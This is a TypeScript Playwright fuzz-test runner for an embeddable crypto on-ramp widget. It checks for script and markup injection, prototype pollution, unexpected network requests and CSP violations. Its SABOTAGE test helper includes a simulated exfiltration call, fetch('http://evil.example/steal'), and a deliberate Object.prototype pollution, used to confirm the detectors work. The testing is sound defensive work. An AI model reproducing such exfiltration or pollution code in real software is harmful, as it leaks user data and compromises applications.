/**
 * Runs fuzz cases in Chromium against the sandbox, on the built bundles, each in a fresh browser context
 * on the tests' merchant page (strict CSP, or none for permissive cases): the element with the case's
 * attributes or properties, or the iframe page with its query and path. A case ends when the widget shows
 * the same final screen twice in a row, or at its deadline. What counts against it: no final screen (blank
 * or still loading), the error boundary's page, an uncaught error in any frame, an injected script run or
 * element created, a polluted prototype, a request to an unexpected origin or API path (or one the
 * page's Content-Security-Policy blocked: the widget causes no violation), numbers or
 * technical text on screen, or a calculator where the case must be refused.
 */
import { readFileSync } from 'node:fs';
import type { Browser, BrowserContext, Frame, Page } from 'playwright-core';
import { defines } from '../../esbuild.config.mjs';
import type { Sandbox } from '../../sandbox/server';
import type { FuzzCase } from './cases';
import { widgetResources } from '../strings';

const INSPECT = `(${readFileSync(new URL('./inspect.js', import.meta.url), 'utf8').replace(/^\/\/.*\n/gm, '').trim().replace(/;$/, '')})()`;
const CASE_DEADLINE_MS = 20_000;
const POLL_MS = 100;

type Inspection = { screen: string | null; title: string | null; text: string; markup: number; polluted: boolean };

export type CaseResult = { case: FuzzCase; outcome: string; failures: string[] };

/** Screens a case may end on: the calculators, a clear error, or another screen the launch led to. */
/** `unreachable`: start-up saying it cannot reach the backend the launch names (it fails after its wait). */
const FINAL_SCREENS = new Set(['calculator', 'merchant-invalid', 'init-failed', 'close-window', 'screen', 'render-crash', 'unreachable']);

/**
 * Paths of the API origin the widget may call or load (the spec's services, error reports, NEAR RPC, the
 * stand-ins, the currencies' logos as the backend lists them).
 */
const API_PATHS = /^\/(provider\/v[12]\/|widget\/v[12]\/|api\/\d+\/envelope\/|near-rpc$|vault\/|websdk\/|static\/logos\/[A-Z0-9-]+\.svg$)/;

/** Words that mean a number or value went wrong on its way to the screen, or technical text leaked. */
const GARBLED = /\bNaN\b|\bInfinity\b|\bundefined\b|\[object Object\]|Expected an? .* but received|TypeError|SyntaxError|at \w+ \(/;

/** The screen titles of every language, by title text → i18n key: outcomes counted the same in en, es, pt. */
function titleKeys(): Map<string, string> {
  const keys = new Map<string, string>();
  const walk = (value: unknown, path: string) => {
    if (typeof value === 'string') keys.set(value, path);
    else if (value && typeof value === 'object') for (const [key, inner] of Object.entries(value)) walk(inner, path ? `${path}.${key}` : key);
  };
  for (const lang of ['en', 'es', 'pt'] as const) walk(widgetResources(lang), '');
  return keys;
}

export async function runCases(
  browser: Browser,
  sandbox: Sandbox,
  cases: readonly FuzzCase[],
  {
    concurrency = 4,
    onResult,
    deadlineMs = CASE_DEADLINE_MS,
  }: { concurrency?: number; onResult?: (result: CaseResult) => void; deadlineMs?: number } = {},
): Promise<CaseResult[]> {
  const titles = titleKeys();
  const results: CaseResult[] = [];
  let next = 0;
  const worker = async () => {
    const tabs = { strict: await openTab(browser, sandbox, false), permissive: await openTab(browser, sandbox, true) };
    try {
      while (next < cases.length) {
        const fuzzCase = cases[next] as FuzzCase;
        next += 1;
        const result = await runCase(fuzzCase.permissive ? tabs.permissive : tabs.strict, sandbox, fuzzCase, titles, deadlineMs);
        results.push(result);
        onResult?.(result);
      }
    } finally {
      await Promise.all([tabs.strict.context.close(), tabs.permissive.context.close()]);
    }
  };
  await Promise.all(Array.from({ length: concurrency }, worker));
  return results.sort((a, b) => a.case.id - b.case.id);
}

/**
 * A worker's tab, reused case after case (a new document each time): what its frames do is recorded
 * against the case it is running. Storage is cleared at every document start, so no case sees another's
 * saved state. Nothing leaves for other origins (there is no network here either).
 */
type Tab = { context: BrowserContext; page: Page; current: { failures: string[]; origins: Set<string>; configured: Set<string> } };

async function openTab(browser: Browser, sandbox: Sandbox, permissive: boolean): Promise<Tab> {
  const context = await browser.newContext({ bypassCSP: permissive });
  const tab: Tab = { context, page: await context.newPage(), current: { failures: [], origins: new Set(), configured: new Set() } };
  const apiOrigin = new URL(sandbox.urls.api).origin;
  const unexpected = (url: URL) => /^https?:$/.test(url.protocol) && !tab.current.origins.has(url.origin);
  await context.addInitScript(() => {
    try {
      localStorage.clear();
      sessionStorage.clear();
    } catch {
      // Storage denied to this frame: nothing to clear.
    }
    // What a policy blocked never becomes a request: the attempt is told here (the widget causes none).
    document.addEventListener('securitypolicyviolation', (event) => {
      (window as unknown as { __fuzzViolation(directive: string, blocked: string): void }).__fuzzViolation(event.violatedDirective, event.blockedURI);
    });
  });
  await context.exposeBinding('__fuzzViolation', (_source, directive: unknown, blocked: unknown) => {
    // A backend the merchant named but left out of their own policy is the merchant's to fix.
    if (typeof blocked === 'string' && URL.canParse(blocked) && tab.current.configured.has(new URL(blocked).origin)) return;
    tab.current.failures.push(`blocked by the Content-Security-Policy: ${String(directive)} ${String(blocked)}`);
  });
  await context.exposeBinding('__fuzzPwn', (_source, what: unknown) => {
    tab.current.failures.push(`injected script ran: ${String(what)}`);
  });
  await context.route(unexpected, (route) => route.abort());
  context.on('request', (request) => {
    const url = new URL(request.url());
    if (unexpected(url)) tab.current.failures.push(`request to an unexpected origin: ${url.origin}`);
    else if (url.origin === apiOrigin && !API_PATHS.test(url.pathname)) tab.current.failures.push(`request to an unexpected API path: ${url.pathname}`);
  });
  tab.page.on('pageerror', (error) => tab.current.failures.push(`uncaught: ${error.message.slice(0, 200)}`));
  return tab;
}

/** The build's own backend and widget page (an attribute left empty means them). */
const BUILD_DEFAULT_ORIGINS = ['__CRW_API_URL__', '__CRW_WIDGET_URL__'].map((name) => new URL(JSON.parse(defines()[name] as string) as string).origin);

/**
 * Origins the merchant configured: the build's defaults, and the well-formed http(s) addresses of the
 * case's api-url and widget-url.
 */
function configuredOrigins(fuzzCase: FuzzCase): Set<string> {
  const origins = new Set<string>(BUILD_DEFAULT_ORIGINS);
  for (const name of ['api-url', 'widget-url']) {
    const value = fuzzCase.attributes?.[name];
    if (value === undefined || !/^https?:\/\//.test(value)) continue;
    try {
      origins.add(new URL(value).origin);
    } catch {
      // Not an address: the widget must refuse it, so no request may go anywhere for it.
    }
  }
  return origins;
}

async function runCase(tab: Tab, sandbox: Sandbox, fuzzCase: FuzzCase, titles: Map<string, string>, deadlineMs: number): Promise<CaseResult> {
  const failures: string[] = [];
  const configured = configuredOrigins(fuzzCase);
  // A case may reach the sandbox and the addresses its merchant configured.
  const origins = new Set([...Object.values(sandbox.urls).map((url) => new URL(url).origin), ...configured]);
  tab.current = { failures, origins, configured };
  await mount(tab.page, sandbox, fuzzCase, failures);
  if (fuzzCase.sabotage) await tab.page.evaluate(SABOTAGE, fuzzCase.sabotage);
  const seen = await settle(tab.page, deadlineMs);
  const outcome = seen.screen === 'screen' ? `screen ${titles.get(seen.title ?? '') ?? seen.title}` : (seen.screen ?? 'blank');
  if (seen.screen === null || !FINAL_SCREENS.has(seen.screen)) failures.push(`no final screen: ${seen.screen ?? 'blank'}`);
  if (seen.screen === 'render-crash') failures.push('the error boundary caught a render error');
  if (seen.markup > 0) failures.push(`injected markup: ${seen.markup} element(s)`);
  if (seen.polluted) failures.push('a prototype was polluted');
  const garbled = GARBLED.exec(seen.text)?.[0];
  if (garbled && !JSON.stringify(fuzzCase).includes(garbled)) failures.push(`on screen: "${garbled}"`);
  if (fuzzCase.refused && seen.screen === 'calculator') failures.push('reached the calculator with launch parameters that must be refused');
  return { case: fuzzCase, outcome, failures: [...failures] };
}

/** The tests' merchant page with the widget of the case: the element, or the iframe page in a frame. */
async function mount(page: Page, sandbox: Sandbox, fuzzCase: FuzzCase, failures: string[]): Promise<void> {
  const mode = fuzzCase.embed === 'element' ? 'element' : 'iframe';
  await page.goto(`${sandbox.urls.demo}/test-hosts/host.html?mode=${mode}&widgets=[]`);
  await page.waitForFunction(() => (window as { __hostReady?: boolean }).__hostReady === true);
  if (fuzzCase.embed === 'iframe') {
    const query = new URLSearchParams(fuzzCase.query?.map(([name, value]) => [name, value]) ?? []);
    const src = `${sandbox.urls.widget}${fuzzCase.path ?? '/'}?${query}`;
    await page.evaluate((address) => {
      const frame = document.createElement('iframe');
      frame.title = 'Widget';
      frame.src = address;
      document.getElementById('slot')?.append(frame);
    }, src);
    return;
  }
  const attributes = { 'api-url': sandbox.urls.api, 'widget-url': sandbox.urls.widget, ...fuzzCase.attributes };
  const thrown = await page.evaluate(
    ({ attributes, properties }) => {
      const element = document.createElement('crypto-ramp-widget');
      for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value);
      const thrown: string[] = [];
      // A framework's property binding: a value String() cannot convert throws to the framework, as a
      // built-in element's string property would.
      for (const [name, value] of Object.entries(properties)) {
        try {
          Reflect.set(element, name, value);
        } catch (error) {
          thrown.push(`${name}: ${(error as Error).name}`);
        }
      }
      document.getElementById('slot')?.append(element);
      return thrown;
    },
    { attributes, properties: fuzzCase.properties ?? {} },
  );
  if (thrown.some((line) => !line.endsWith('TypeError'))) failures.push(`setting a property threw: ${thrown.join(', ')}`);
}

/** What the host page does for each sabotage (runs in the page). */
function SABOTAGE(what: string): void {
  const widget = document.querySelector('crypto-ramp-widget') ?? document.querySelector('iframe');
  switch (what) {
    case 'script':
      (window as unknown as { __fuzzPwn(what: string): void }).__fuzzPwn('sabotage');
      break;
    case 'markup': {
      const marked = document.createElement('b');
      marked.setAttribute('data-fuzz-markup', '');
      (widget?.shadowRoot ?? document.body).append(marked);
      break;
    }
    case 'pollute':
      Reflect.set(Object.prototype, 'fuzzPolluted', 1);
      break;
    case 'request':
      void fetch('http://evil.example/steal').catch(() => undefined);
      break;
    case 'throw':
      setTimeout(() => {
        throw new Error('sabotage');
      });
      break;
    case 'remove':
      widget?.remove();
      break;
  }
}

/** Inspects every frame until the same final screen shows twice in a row, or the deadline passes. */
async function settle(page: Page, deadlineMs: number): Promise<Inspection> {
  const deadline = Date.now() + deadlineMs;
  let last: Inspection = { screen: null, title: null, text: '', markup: 0, polluted: false };
  let previousKey = '';
  for (;;) {
    const seen = await inspectFrames(page.frames());
    const key = `${seen.screen}|${seen.title}`;
    if (seen.screen !== null && FINAL_SCREENS.has(seen.screen) && key === previousKey) return seen;
    previousKey = key;
    last = seen;
    if (Date.now() > deadline) return last;
    await new Promise((resolve) => setTimeout(resolve, POLL_MS));
  }
}

/** One inspection over all frames: the widget's screen where it is, injection traces summed. */
async function inspectFrames(frames: Frame[]): Promise<Inspection> {
  const all = await Promise.all(frames.map((frame) => frame.evaluate(INSPECT).catch(() => null) as Promise<Inspection | null>));
  const found = all.filter((inspection): inspection is Inspection => inspection !== null);
  const widget = found.find((inspection) => inspection.screen !== null);
  return {
    screen: widget?.screen ?? null,
    title: widget?.title ?? null,
    text: widget?.text ?? '',
    markup: found.reduce((sum, inspection) => sum + inspection.markup, 0),
    polluted: found.some((inspection) => inspection.polluted),
  };
}

/** Counts per outcome (and per kind), the failures, in a few printable lines. */
export function summary(results: readonly CaseResult[], elapsedMs: number): string {
  const count = (keyOf: (result: CaseResult) => string) => {
    const counts = new Map<string, number>();
    for (const result of results) counts.set(keyOf(result), (counts.get(keyOf(result)) ?? 0) + 1);
    return [...counts].sort((a, b) => b[1] - a[1]);
  };
  const failed = results.filter((result) => result.failures.length > 0);
  const lines = [
    `${results.length} cases in ${(elapsedMs / 1000).toFixed(0)} s: ${results.length - failed.length} passed, ${failed.length} failed`,
    'outcomes:',
    ...count((result) => result.outcome).map(([outcome, n]) => `  ${String(n).padStart(5)}  ${outcome}`),
    'by kind (element / iframe):',
    ...count((result) => result.case.kind).map(([kind]) => {
      const of = (embed: string) => results.filter((r) => r.case.kind === kind && r.case.embed === embed).length;
      return `  ${kind.padEnd(16)} ${String(of('element')).padStart(4)} / ${String(of('iframe')).padStart(4)}`;
    }),
    `checks: ${['blank', 'loading', 'render crash', 'uncaught', 'injected script', 'injected markup', 'polluted', 'unexpected origin', 'CSP violation', 'garbled', 'not refused']
      .map((name) => `${name} ${failed.filter((r) => r.failures.some((f) => failureName(f) === name)).length}`)
      .join(', ')}`,
  ];
  for (const result of failed.slice(0, 30)) {
    const { id, kind, embed, permissive } = result.case;
    lines.push(`  case ${id} (${kind}, ${embed}${permissive ? ', no CSP' : ''}) → ${result.outcome}: ${result.failures.join('; ')}`);
  }
  return lines.join('\n');
}

/** The check a failure line belongs to (the names `summary` prints). */
function failureName(failure: string): string {
  if (failure.startsWith('no final screen: blank')) return 'blank';
  if (failure.startsWith('no final screen')) return 'loading';
  if (failure.startsWith('the error boundary')) return 'render crash';
  if (failure.startsWith('uncaught')) return 'uncaught';
  if (failure.startsWith('injected script')) return 'injected script';
  if (failure.startsWith('injected markup')) return 'injected markup';
  if (failure.startsWith('a prototype')) return 'polluted';
  if (failure.startsWith('request to')) return 'unexpected origin';
  if (failure.startsWith('blocked by the Content-Security-Policy')) return 'CSP violation';
  if (failure.startsWith('on screen')) return 'garbled';
  if (failure.startsWith('reached the calculator')) return 'not refused';
  return 'other';
}
